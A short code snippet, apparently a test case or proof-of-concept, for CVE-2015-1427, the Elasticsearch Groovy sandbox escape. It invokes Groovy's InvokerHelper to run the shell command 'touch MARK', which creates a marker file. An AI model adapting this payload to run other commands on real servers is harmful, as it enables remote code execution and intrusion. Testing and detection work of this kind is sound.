// CVE-2015-1427 (Elasticsearch: Groovy sandbox)
// Groovy's own runtime calls by name
event X {
    on { 'a' }
    as {
        org.codehaus.groovy.runtime.InvokerHelper.invokeMethod('touch MARK', 'execute', null)
    }
}
